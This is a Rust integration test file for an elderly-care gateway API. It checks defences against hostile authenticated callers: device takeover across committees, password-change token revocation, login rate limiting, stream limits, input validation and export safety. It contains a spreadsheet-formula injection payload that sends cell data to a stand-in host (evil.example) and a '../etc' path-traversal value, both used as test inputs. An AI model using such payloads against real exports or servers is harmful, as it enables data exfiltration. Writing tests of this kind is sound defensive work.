//! The API against hostile but authenticated callers: registrations that would take over
//! another household's device, inputs that one backend accepts and the other refuses,
//! login guesses, stream floods, oversized bodies, exports that must not run formulas,
//! credentials that outlive a password, and references into another committee's
//! records. Each test runs on SQLite, and on PostgreSQL with `ANXIN_TEST_POSTGRES`.

use crate::api_common;
use crate::common;

use std::time::Duration;

use api_common::{Api, PASSWORD, Session};
use serde_json::json;

/// Every test ends by then.
const TEST: Duration = Duration::from_secs(120);

/// A technician of committee c2 (household h4 only), created by the administrator.
async fn technician_of_c2(api: &Api) -> Session {
    let admin = api.login("admin1").await;
    let r = admin
        .post(
            "/users",
            json!({"id": "tech2", "name": "孙师傅", "role": "technician",
                   "committee_id": "c2", "password": PASSWORD}),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    api.login("tech2").await
}

/// A bearer client for a new API token of `s`.
async fn token_of(api: &Api, s: &Session) -> Session {
    let r = s
        .post("/tokens", json!({"name": "报表", "expires_in_days": 30}))
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let mut t = api.anonymous();
    t.bearer = r.json["token"].as_str().map(str::to_string);
    assert_eq!(
        t.get("/auth/me").await.status,
        200,
        "the token works at first"
    );
    t
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn technician_cannot_register_a_device_of_another_committee() {
    tokio::time::timeout(TEST, async {
        let api = Api::start().await;
        let tech2 = technician_of_c2(&api).await;
        // h1-door belongs to h1 (committee c1); tech2 names its id for his own h4.
        let r = tech2
            .post(
                "/devices",
                json!({"kind": "door", "household_id": "h4", "device_id": "h1-door"}),
            )
            .await;
        assert_eq!(r.status, 409, "{}", r.text);
        assert_eq!(r.code(), "conflict");
        assert_eq!(r.json["field"], "device_id");
        assert!(r.json.get("secret").is_none(), "no secret handed out");
        // Also with another kind, and once provisioned in its own household.
        let r = tech2
            .post(
                "/devices",
                json!({"kind": "help", "household_id": "h4", "device_id": "h1-help"}),
            )
            .await;
        assert_eq!(r.status, 409, "{}", r.text);

        let admin = api.login("admin1").await;
        let d = admin.get("/devices/h1-door").await;
        assert_eq!(d.status, 200, "{}", d.text);
        assert_eq!(
            d.json["device"]["household_id"], "h1",
            "the device stayed where it was: {}",
            d.text
        );
        assert_eq!(
            d.json["device"]["credentials"]["state"], "none",
            "no secret was issued for it: {}",
            d.text
        );
        let r = tech2.get("/devices/h1-door").await;
        assert_eq!(r.status, 404, "still outside his scope");

        // The household's own technician may provision it where it is.
        let tech1 = api.login("tech1").await;
        let r = tech1
            .post(
                "/devices",
                json!({"kind": "door", "household_id": "h1", "device_id": "h1-door",
                       "room": "entrance"}),
            )
            .await;
        assert_eq!(r.status, 201, "{}", r.text);
        assert_eq!(r.json["device"]["household_id"], "h1");
        // And a second time it is taken.
        let r = tech1
            .post(
                "/devices",
                json!({"kind": "door", "household_id": "h1", "device_id": "h1-door"}),
            )
            .await;
        assert_eq!(r.status, 409, "{}", r.text);
        api.stop().await;
    })
    .await
    .expect("test took too long");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn api_tokens_and_sessions_stop_working_when_the_password_changes_or_is_reset() {
    tokio::time::timeout(TEST, async {
        let api = Api::start().await;
        // The user changes her own password.
        let head = api.login("head1").await;
        let other_session = api.login("head1").await;
        let token = token_of(&api, &head).await;
        let r = head
            .put(
                "/auth/password",
                json!({"current_password": PASSWORD, "new_password": "xin-mima-2026-a"}),
            )
            .await;
        assert_eq!(r.status, 204, "{}", r.text);
        assert_eq!(token.get("/auth/me").await.status, 401, "token revoked");
        assert_eq!(other_session.get("/auth/me").await.status, 401);

        // An administrator resets a user's password.
        let sup = api.login("sup1").await;
        let token = token_of(&api, &sup).await;
        let admin = api.login("admin1").await;
        let r = admin
            .put(
                "/users/sup1/password",
                json!({"password": "xin-mima-2026-b"}),
            )
            .await;
        assert_eq!(r.status, 204, "{}", r.text);
        assert_eq!(token.get("/auth/me").await.status, 401, "token revoked");
        assert_eq!(sup.get("/auth/me").await.status, 401);
        api.stop().await;
    })
    .await
    .expect("test took too long");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_contact_raises_at_most_twenty_needs_and_the_xlsx_export_survives_long_cells() {
    tokio::time::timeout(TEST, async {
        let api = Api::start().await;
        let cw = api.login("cw1").await;
        let need = |i: usize| json!({"category": "other", "description": format!("{i}:{}", "需".repeat(1900))});
        let contact = |n: usize| {
            json!({"household_id": "h1", "method": "phone", "outcome": "needs_help",
                   "needs": (0..n).map(need).collect::<Vec<_>>()})
        };
        let r = cw.post("/contacts", contact(21)).await;
        assert_eq!(r.status, 400, "{}", r.code());
        assert_eq!(r.json["field"], "needs");
        let open = api.gw.workflow.needs(&Default::default()).await.unwrap();
        assert!(open.is_empty(), "nothing was stored: {}", open.len());
        let r = cw.post("/contacts", contact(20)).await;
        assert_eq!(r.status, 201, "{}", r.code());

        // 20 × 1900 characters in one cell: over Excel's limit, cut with a marker.
        let head = api.login("head1").await;
        let r = head
            .builder("GET", "/exports/contacts?format=xlsx", None)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status().as_u16(), 200);
        let bytes = r.bytes().await.unwrap();
        let sheets = anxin_gateway::workflow::table::read_xlsx(&bytes).unwrap();
        let needs_cell = sheets[0].1[1].last().unwrap();
        assert_eq!(needs_cell.chars().count(), 32_767);
        assert!(needs_cell.ends_with("…[truncated]"), "{}", &needs_cell[..20]);
        api.stop().await;
    })
    .await
    .expect("test took too long");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_in_a_note_is_exported_as_text_and_negative_numbers_stay_numbers() {
    tokio::time::timeout(TEST, async {
        let api = Api::start().await;
        let cw = api.login("cw1").await;
        let note = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")";
        let r = cw
            .post(
                "/contacts",
                json!({"household_id": "h1", "method": "phone", "outcome": "well", "note": note}),
            )
            .await;
        assert_eq!(r.status, 201, "{}", r.text);
        let head = api.login("head1").await;
        let r = head.get("/exports/contacts?format=csv").await;
        assert_eq!(r.status, 200, "{}", r.text);
        let rows = anxin_gateway::workflow::table::read_csv(r.text.as_bytes()).unwrap();
        let note_col = rows[0]
            .iter()
            .position(|h| h == "note" || h == "备注")
            .unwrap();
        assert_eq!(rows[1][note_col], format!("'{note}"));
        let r = head
            .builder("GET", "/exports/contacts?format=xlsx", None)
            .send()
            .await
            .unwrap();
        let bytes = r.bytes().await.unwrap();
        let sheets = anxin_gateway::workflow::table::read_xlsx(&bytes).unwrap();
        assert_eq!(sheets[0].1[1][note_col], format!("'{note}"));
        api.stop().await;
    })
    .await
    .expect("test took too long");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn references_outside_the_callers_scope_answer_like_missing_ones() {
    tokio::time::timeout(TEST, async {
        let api = Api::start().await;
        let foreign_alert = api_common::raise_help(&api, "h4").await;
        let own_alert = api_common::raise_help(&api, "h1").await;
        let cw = api.login("cw1").await;
        let need = |extra: serde_json::Value| {
            let mut b = json!({"household_id": "h1", "category": "food", "description": "买米"});
            b.as_object_mut()
                .unwrap()
                .extend(extra.as_object().unwrap().clone());
            b
        };
        // Another committee's alert and a missing one: the same 404.
        let foreign = cw
            .post("/needs", need(json!({"source_alert_id": foreign_alert})))
            .await;
        let missing = cw
            .post("/needs", need(json!({"source_alert_id": "al-no-such"})))
            .await;
        assert_eq!(foreign.status, 404, "{}", foreign.text);
        assert_eq!(foreign.json, missing.json, "foreign and missing look alike");
        // A caseworker of another committee as assignee, and a missing user: the same 404.
        let foreign = cw.post("/needs", need(json!({"assignee_id": "cw3"}))).await;
        let missing = cw.post("/needs", need(json!({"assignee_id": "nobody"}))).await;
        assert_eq!(foreign.status, 404, "{}", foreign.text);
        assert_eq!(foreign.json, missing.json);

        // Allowed references still work.
        let r = cw
            .post(
                "/needs",
                need(json!({"source_alert_id": own_alert, "assignee_id": "cw2"})),
            )
            .await;
        assert_eq!(r.status, 201, "{}", r.text);
        let id = r.json["id"].as_str().unwrap().to_string();
        let foreign = cw
            .post(&format!("/needs/{id}/assign"), json!({"assignee_id": "cw3"}))
            .await;
        let missing = cw
            .post(&format!("/needs/{id}/assign"), json!({"assignee_id": "nobody"}))
            .await;
        assert_eq!(foreign.status, 404, "{}", foreign.text);
        assert_eq!(foreign.json, missing.json);
        let open = api.gw.workflow.needs(&Default::default()).await.unwrap();
        assert!(
            open.iter().all(|n| n.assignee_id.as_ref().is_none_or(|u| u.0 != "cw3")),
            "no need went to cw3"
        );
        assert_eq!(open.len(), 1, "only the allowed need was stored");

        // A contact dated 1970 or at i64::MIN is refused.
        for at in [0_i64, i64::MIN, 1_000] {
            let r = cw
                .post(
                    "/contacts",
                    json!({"household_id": "h1", "method": "phone", "outcome": "well", "at_ms": at}),
                )
                .await;
            assert_eq!(r.status, 400, "at_ms {at}: {}", r.text);
            assert_eq!(r.json["field"], "at_ms");
        }
        api.stop().await;
    })
    .await
    .expect("test took too long");
}

/// A client whose connections come from `ip` (any 127.0.0.0/8 address is loopback).
fn from_address(api: &Api, ip: &str) -> Session {
    let mut s = api.anonymous();
    s.http = reqwest::Client::builder()
        .local_address(ip.parse::<std::net::IpAddr>().ok())
        .build()
        .unwrap();
    s
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn wrong_passwords_from_one_address_do_not_lock_the_user_out_of_another() {
    tokio::time::timeout(TEST, async {
        let api = Api::start().await;
        let attacker = from_address(&api, "127.0.0.1");
        let mut refused = 0;
        for _ in 0..12 {
            let r = attacker
                .post(
                    "/auth/login",
                    json!({"user_id": "admin1", "password": "guess-guess"}),
                )
                .await;
            assert!(matches!(r.status, 401 | 429), "{}", r.text);
            refused += usize::from(r.status == 429);
        }
        assert!(
            refused >= 7,
            "the attacker is slowed down: {refused} refused"
        );
        // The administrator, elsewhere, logs in at once while the attacker keeps going.
        let admin = from_address(&api, "127.0.0.2");
        let r = admin
            .post(
                "/auth/login",
                json!({"user_id": "admin1", "password": PASSWORD}),
            )
            .await;
        assert_eq!(r.status, 200, "{}", r.text);
        // The attacker's own pair still waits, progressively longer.
        let r = attacker
            .post(
                "/auth/login",
                json!({"user_id": "admin1", "password": PASSWORD}),
            )
            .await;
        assert_eq!((r.status, r.code()), (429, "rate_limited"));
        api.stop().await;
    })
    .await
    .expect("test took too long");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_wrong_guesses_are_refused_before_the_password_check() {
    tokio::time::timeout(TEST, async {
        let api = Api::start().await;
        let attacker = from_address(&api, "127.0.0.1");
        let guesses = (0..40).map(|i| {
            let s = attacker.clone();
            async move {
                s.post(
                    "/auth/login",
                    json!({"user_id": "cw1", "password": format!("guess-{i:04}")}),
                )
                .await
                .status
            }
        });
        let statuses = futures::future::join_all(guesses).await;
        let checked = statuses.iter().filter(|s| **s == 401).count();
        let limited = statuses.iter().filter(|s| **s == 429).count();
        assert_eq!(checked + limited, 40, "{statuses:?}");
        assert!(
            checked <= 5,
            "at most the free failures were checked: {checked}"
        );
        api.stop().await;
    })
    .await
    .expect("test took too long");
}

/// Opens a live stream of `s` and reads its `hello`.
async fn open_stream(s: &Session) -> (reqwest::Response, String) {
    let mut resp = s.builder("GET", "/stream", None).send().await.unwrap();
    assert_eq!(resp.status().as_u16(), 200);
    let mut buf = String::new();
    api_common::next_event(&mut resp, &mut buf, |n, _| n == "hello", common::WAIT)
        .await
        .expect("hello");
    (resp, buf)
}

/// Whether the stream ends (the server closes it) within `within`.
async fn ends_within(resp: &mut reqwest::Response, within: Duration) -> bool {
    let deadline = tokio::time::Instant::now() + within;
    loop {
        match tokio::time::timeout_at(deadline, resp.chunk()).await {
            Ok(Ok(Some(_))) => continue,
            Ok(_) => return true,
            Err(_) => return false,
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_user_has_at_most_four_live_streams_and_logout_ends_them_at_once() {
    tokio::time::timeout(TEST, async {
        let api = Api::start().await;
        let cw = api.login("cw1").await;
        let mut open = vec![];
        for _ in 0..4 {
            open.push(open_stream(&cw).await);
        }
        let r = cw.get("/stream").await;
        assert_eq!((r.status, r.code()), (429, "rate_limited"), "{}", r.text);
        assert!(r.headers.contains_key("retry-after"));
        // Another user is not affected.
        let cw2 = api.login("cw2").await;
        let (mut other, _) = open_stream(&cw2).await;
        // A closed stream gives its slot back.
        drop(open.pop());
        let deadline = tokio::time::Instant::now() + common::WAIT;
        loop {
            let r = cw.builder("GET", "/stream", None).send().await.unwrap();
            if r.status().as_u16() == 200 {
                open.push((r, String::new()));
                break;
            }
            assert!(tokio::time::Instant::now() < deadline, "the slot came back");
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        // Logout ends every stream of the session at once (not at the 15 s re-check).
        let r = cw.post("/auth/logout", json!({})).await;
        assert_eq!(r.status, 204, "{}", r.text);
        for (resp, _) in open.iter_mut() {
            assert!(
                ends_within(resp, Duration::from_secs(3)).await,
                "stream ended"
            );
        }
        assert!(
            !ends_within(&mut other, Duration::from_millis(300)).await,
            "another user's stream stays open"
        );
        api.stop().await;
    })
    .await
    .expect("test took too long");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_live_stream_audits_a_household_once_not_per_event() {
    tokio::time::timeout(TEST, async {
        let api = Api::start().await;
        let cw = api.login("cw1").await;
        let (mut resp, mut buf) = open_stream(&cw).await;
        for _ in 0..3 {
            let id = api_common::raise_help(&api, "h1").await;
            api_common::next_event(
                &mut resp,
                &mut buf,
                |n, v| n == "alert" && v["id"] == id.as_str(),
                common::WAIT,
            )
            .await
            .expect("the alert on the stream");
        }
        assert_eq!(api.audit_count("h1", "user:cw1", "alert.live").await, 1);
        api.stop().await;
    })
    .await
    .expect("test took too long");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nul_control_and_bidi_characters_are_refused_alike_on_both_backends() {
    tokio::time::timeout(TEST, async {
        let api = Api::start().await;
        // Anonymous: the login's user id.
        let r = api
            .anonymous()
            .post("/auth/login", json!({"user_id": "cw1\u{0}", "password": PASSWORD}))
            .await;
        assert_eq!(r.status, 400, "{}", r.text);
        assert_eq!(r.json["field"], "user_id");
        let cw = api.login("cw1").await;
        // Paths and queries.
        for path in ["/needs?assignee_id=%00", "/alerts/al-%00", "/households/h1%E2%80%AE"] {
            let r = cw.get(path).await;
            assert_eq!(r.status, 400, "{path}: {}", r.text);
            assert_eq!(r.code(), "bad_request", "{path}");
        }
        // Bodies: free text, wherever it sits.
        let r = cw
            .post(
                "/contacts",
                json!({"household_id": "h1", "method": "phone", "outcome": "elder_ok",
                       "note": "一切正常\u{0}"}),
            )
            .await;
        assert_eq!(r.status, 400, "{}", r.text);
        assert_eq!(r.json["field"], "note");
        let admin = api.login("admin1").await;
        for (id, name) in [("../etc", "测试"), ("cw9", "王\u{202E}五"), ("cw9\u{0}", "王五")] {
            let r = admin
                .post("/users", json!({"id": id, "name": name, "role": "caseworker", "committee_id": "c1"}))
                .await;
            assert_eq!(r.status, 400, "{id:?} {name:?}: {}", r.text);
        }
        // A reference to a committee that does not exist is a bad field, not a 500.
        let r = admin
            .post("/users", json!({"id": "cw9", "name": "王五", "role": "caseworker", "committee_id": "c-none"}))
            .await;
        assert_eq!(r.status, 400, "{}", r.text);
        assert_eq!(r.json["field"], "committee_id");
        // Nothing of it was stored.
        assert!(api.gw.workflow.user(&anxin_gateway::workflow::UserId("cw9".into())).await.is_err());
        // Counted by reason.
        let text = api.gw.metrics.encode();
        assert!(common::metric(&text, "anxin_api_input_rejected_total", "reason=\"nul\"") >= 4.0, "{text}");
    })
    .await
    .expect("in time");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn times_outside_2000_to_2100_are_refused_and_overflow_nothing() {
    tokio::time::timeout(TEST, async {
        let api = Api::start().await;
        let cw = api.login("cw1").await;
        for at in [i64::MIN, 0, 86_400_000] {
            let r = cw
                .post(
                    "/contacts",
                    json!({"household_id": "h1", "method": "phone", "outcome": "elder_ok", "at_ms": at}),
                )
                .await;
            assert_eq!(r.status, 400, "at_ms {at}: {}", r.text);
            assert_eq!(r.json["field"], "at_ms");
        }
        // Once a handler panicked on this (7 days before i64::MIN).
        let r = cw
            .get("/households/h1/history?measurement=activity&to_ms=-9223372036854775808")
            .await;
        assert_eq!(r.status, 400, "{}", r.text);
        assert_eq!(r.json["field"], "to_ms");
        let r = cw.get("/alerts?from_ms=0").await;
        assert_eq!(r.status, 400, "{}", r.text);
    })
    .await
    .expect("in time");
}
